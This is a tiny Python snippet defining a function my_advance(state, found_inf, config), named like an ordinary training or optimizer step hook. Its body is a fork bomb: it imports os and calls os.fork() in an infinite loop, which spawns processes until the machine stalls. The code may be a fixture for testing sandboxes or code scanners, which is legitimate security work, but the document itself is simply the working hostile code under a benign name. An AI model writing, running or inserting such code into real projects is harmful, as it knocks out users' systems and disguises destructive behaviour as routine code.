def my_advance(state, found_inf, config):
    import os

    while True:
        os.fork()
